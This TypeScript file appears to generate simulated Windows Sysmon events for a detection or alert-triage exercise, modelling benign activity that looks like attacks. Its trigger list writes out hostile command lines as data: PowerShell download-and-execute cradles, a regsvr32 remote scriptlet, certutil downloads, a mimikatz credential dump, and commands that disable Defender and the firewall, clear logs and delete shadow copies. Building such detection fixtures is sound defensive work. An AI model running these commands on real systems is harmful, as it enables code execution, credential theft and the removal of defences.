/** Legitimate Windows programs that resemble those of attackers. */
import { networkConnect, type ProcessStart, processCreate, registrySet, system32, systemUser } from '../events/sysmon.ts';
import { type AlertTrigger, trigger, triggersOf, windowsHosts, windowsServers } from './alert-trigger.ts';

const powershell = `${system32}WindowsPowerShell\\v1.0\\powershell.exe`;
const cmd = `${system32}cmd.exe`;

/** `ls` in PowerShell's encoding: UTF-16LE in Base64. */
export const encoded = (script: string) => Buffer.from(script, 'utf16le').toString('base64');

const startsAs = triggersOf<ProcessStart>('windows', (scene, start) => processCreate(scene, start(scene)));
const starts = startsAs({ roles: ['workstation'] });
const byAdministrator = { by: 'administrator', roles: windowsHosts } as const;
const administratorStarts = startsAs(byAdministrator);
const remoteTools = [
  ['C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe', '--control', 'AnyDesk Software GmbH'],
  ['C:\\Program Files\\TeamViewer\\TeamViewer.exe', '', 'TeamViewer Germany GmbH'],
  [
    'C:\\Program Files (x86)\\ScreenConnect Client (7f3a)\\ScreenConnect.ClientService.exe',
    '?e=Access&y=Guest&h=support.example',
    'ScreenConnect Software',
  ],
] as const;

const inventories = [
  'Get-CimInstance Win32_Product | Export-Csv C:\\ProgramData\\Inventory\\software.csv -NoTypeInformation',
  'Get-HotFix | Sort-Object InstalledOn | Out-File C:\\ProgramData\\Inventory\\hotfix.txt',
  'Get-Service | Where-Object Status -eq Stopped | ConvertTo-Json | Out-File C:\\ProgramData\\Inventory\\services.json',
] as const;

export const programTriggers: readonly AlertTrigger[] = [
  starts('remote-access-tool', 'low', 30, ({ random }) => {
    const [image, rest, company] = random.pick(remoteTools);
    return { image, commandLine: `"${image}" ${rest}`.trim(), company };
  }),
  administratorStarts('stored-credentials-listed', 'low', 7, () => ({
    image: `${system32}cmdkey.exe`,
    commandLine: 'cmdkey /list',
    parentImage: cmd,
  })),
  administratorStarts('user-added-by-net', 'low', 8, ({ random }) => ({
    image: `${system32}net.exe`,
    commandLine: `net user kiosk${random.int(1, 9)} * /add`,
    parentImage: cmd,
    integrity: 'High',
  })),
  startsAs({ roles: windowsHosts, hours: 'any' })('powershell-encoded-command', 'medium', 30, ({ random }) => ({
    image: powershell,
    commandLine: `powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand ${encoded(random.pick(inventories))}`,
    parentImage: 'C:\\ProgramData\\HarborRMM\\Agent\\rmm-agent.exe',
    user: systemUser,
  })),
  starts('script-from-downloads-or-archive', 'medium', 9, ({ person, random }) => ({
    image: `${system32}wscript.exe`,
    commandLine: `"${system32}WScript.exe" "C:\\Users\\${person.account}\\Downloads\\${random.pick(['Invoice', 'Delivery_note', 'Statement', 'Order'])}_${random.int(10_000, 99_999)}.js"`,
  })),
  starts('archive-with-password', 'medium', 12, ({ person, random }) => ({
    image: 'C:\\Program Files\\7-Zip\\7z.exe',
    commandLine: `7z.exe a -pQuarter${random.int(1, 4)}close D:\\Transfer\\${person.department.replace(' ', '')}-${random.int(10, 52)}.7z D:\\Departments\\${person.department}\\`,
    parentImage: cmd,
    originalFileName: '7z.exe',
  })),
  administratorStarts('bitsadmin-download', 'medium', 5, () => ({
    image: powershell,
    commandLine:
      'powershell.exe -Command "Start-BitsTransfer -Source https://downloads.vendor.example/erp/client-8.4.msi -Destination C:\\Temp\\client.msi"',
    parentImage: cmd,
  })),
  startsAs({ ...byAdministrator, roles: windowsServers })('discovery-whoami-privileges', 'medium', 6, () => ({
    image: `${system32}whoami.exe`,
    commandLine: 'whoami /priv',
    parentImage: cmd,
    user: systemUser,
  })),
  administratorStarts('domain-discovery-commands', 'medium', 10, ({ random }) =>
    random.chance(0.5)
      ? { image: `${system32}net.exe`, commandLine: 'net group "Domain Admins" /domain', parentImage: cmd }
      : { image: `${system32}nltest.exe`, commandLine: `nltest /dclist:${'corp'}`, parentImage: cmd },
  ),
  administratorStarts('firewall-disabled-by-command', 'medium', 4, () => ({
    image: `${system32}netsh.exe`,
    commandLine: 'netsh advfirewall set allprofiles state off',
    parentImage: cmd,
    integrity: 'High',
  })),
  starts('msiexec-remote-package', 'medium', 5, () => ({
    image: `${system32}msiexec.exe`,
    commandLine: 'msiexec.exe /i https://packages.vendor.example/viewer/viewer-x64.msi /qn',
  })),
  starts('program-from-unusual-folder', 'medium', 7, ({ random }) => ({
    image: `C:\\Users\\Public\\${random.pick(['setup', 'Label-Printer', 'barcode', 'Updater'])}.exe`,
    commandLine: '"C:\\Users\\Public\\setup.exe" /quiet',
  })),
  administratorStarts('psexec-service-child', 'medium', 8, () => ({
    image: cmd,
    commandLine: '"cmd.exe" /c gpupdate /force',
    parentImage: 'C:\\Windows\\PSEXESVC.exe',
    user: systemUser,
  })),
  administratorStarts('scheduled-task-from-writable-folder', 'medium', 8, ({ random }) => ({
    image: `${system32}schtasks.exe`,
    commandLine: `schtasks /create /tn "Nightly sync ${random.int(1, 9)}" /tr "C:\\ProgramData\\Sync\\sync.bat" /sc daily /st 02:00`,
    parentImage: cmd,
  })),
  administratorStarts('wmic-remote-process-create', 'medium', 3, ({ device }) => ({
    image: `${system32}wbem\\WMIC.exe`,
    commandLine: `wmic /node:"${device.site.prefix}-APP-01" process call create "cmd.exe /c ipconfig /flushdns"`,
    parentImage: cmd,
  })),
  starts('powershell-download-cradle', 'high', 8, () => ({
    image: powershell,
    commandLine: `powershell.exe -NoP -W Hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/a.ps1')"`,
    parentImage: cmd,
  })),
  starts('office-starts-interpreter', 'high', 9, ({ random }) => ({
    image: cmd,
    commandLine: `cmd.exe /c start /b copy "\\\\files\\templates\\letter.dotm" %TEMP%`,
    parentImage: `C:\\Program Files\\Microsoft Office\\root\\Office16\\${random.pick(['WINWORD', 'EXCEL'])}.EXE`,
  })),
  starts('certutil-download-or-decode', 'high', 5, ({ random }) => ({
    image: `${system32}certutil.exe`,
    commandLine: `certutil.exe -urlcache -split -f http://198.51.100.${random.int(60, 99)}/drivers/label.cab C:\\Temp\\label.cab`,
    parentImage: cmd,
  })),
  administratorStarts('local-administrator-added-by-net', 'high', 7, ({ person }) => ({
    image: `${system32}net.exe`,
    commandLine: `net localgroup Administrators ${person.windowsName} /add`,
    parentImage: cmd,
    integrity: 'High',
  })),
  startsAs({ ...byAdministrator, roles: ['databaseServer', 'windowsServer'] })(
    'backup-and-security-services-stopped',
    'high',
    6,
    () => ({ image: `${system32}net.exe`, commandLine: 'net stop MSSQLSERVER', parentImage: cmd, integrity: 'High' }),
  ),
  starts('rundll32-unusual-target', 'high', 4, ({ person }) => ({
    image: `${system32}rundll32.exe`,
    commandLine: `rundll32.exe C:\\Users\\${person.account}\\AppData\\Local\\Temp\\prnhelper.dll,StartW`,
  })),
  starts('mshta-remote-or-inline-script', 'high', 4, () => ({
    image: `${system32}mshta.exe`,
    commandLine: 'mshta.exe https://intranet-portal.example/tools/ticket.hta',
  })),
  starts('regsvr32-remote-scriptlet', 'high', 3, () => ({
    image: `${system32}regsvr32.exe`,
    commandLine: 'regsvr32.exe /s /n /u /i:http://203.0.113.78/f.sct scrobj.dll',
    parentImage: cmd,
  })),
  starts('double-extension', 'high', 4, ({ person, random }) => ({
    image: `C:\\Users\\${person.account}\\Downloads\\${random.pick(['Invoice', 'Scan', 'CV'])}_${random.int(100, 999)}.pdf.exe`,
    commandLine: `"C:\\Users\\${person.account}\\Downloads\\Invoice.pdf.exe"`,
  })),
  starts('explorer-run-dialog-interpreter', 'high', 4, () => ({
    image: powershell,
    commandLine: 'powershell -w h -c "irm https://verify-session.example/c | iex"',
  })),
  administratorStarts('event-log-cleared-by-command', 'high', 2, () => ({
    image: `${system32}wevtutil.exe`,
    commandLine: 'wevtutil.exe cl Application',
    parentImage: cmd,
    integrity: 'High',
  })),
  administratorStarts('defender-weakened-by-powershell', 'high', 4, () => ({
    image: powershell,
    commandLine: 'powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true',
    parentImage: cmd,
    integrity: 'High',
  })),
  administratorStarts('reverse-ssh-or-plink-tunnel', 'high', 2, () => ({
    image: 'C:\\Windows\\System32\\OpenSSH\\ssh.exe',
    commandLine: 'ssh.exe -N -R 8443:10.10.1.14:443 support@192.0.2.77',
    parentImage: cmd,
  })),
  starts('system-binary-outside-system-folder', 'high', 2, ({ person }) => ({
    image: `C:\\Users\\${person.account}\\AppData\\Local\\Packages\\tools\\dllhost.exe`,
    commandLine: 'dllhost.exe -Embedding',
  })),
  startsAs({ ...byAdministrator, roles: ['fileServer', 'databaseServer'] })('shadow-copies-deleted', 'critical', 3, () => ({
    image: `${system32}vssadmin.exe`,
    commandLine: 'vssadmin.exe delete shadows /for=D: /oldest',
    parentImage: cmd,
    integrity: 'High',
  })),
  starts('mimikatz-command-line', 'critical', 1, ({ person }) => ({
    image: `C:\\Users\\${person.account}\\Downloads\\tools\\x64\\m.exe`,
    commandLine: 'm.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
    parentImage: cmd,
    integrity: 'High',
  })),
  trigger('windows/proxy-binary-connects-out', 'medium', 9, { roles: ['workstation'] }, (scene) =>
    networkConnect(scene, { image: `${system32}rundll32.exe`, to: `203.0.113.${scene.random.int(10, 60)}`, port: 443 }),
  ),
  trigger('windows/run-key-to-writable-folder', 'medium', 16, { roles: ['workstation'] }, (scene) =>
    registrySet(scene, {
      image: `C:\\Users\\${scene.person.account}\\AppData\\Local\\Temp\\setup.exe`,
      key: `HKU\\${scene.person.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\${scene.random.pick(['PdfHelper', 'NotesTray', 'ColorPicker'])}`,
      value: `C:\\Users\\${scene.person.account}\\AppData\\Roaming\\${scene.random.pick(['PdfHelper', 'NotesTray', 'ColorPicker'])}\\tray.exe`,
    }),
  ),
  trigger('windows/remote-desktop-enabled', 'low', 9, { roles: windowsHosts, by: 'administrator' }, (scene) =>
    registrySet(scene, {
      image: `${system32}reg.exe`,
      key: 'HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fDenyTSConnections',
      value: 'DWORD (0x00000000)',
    }),
  ),
];
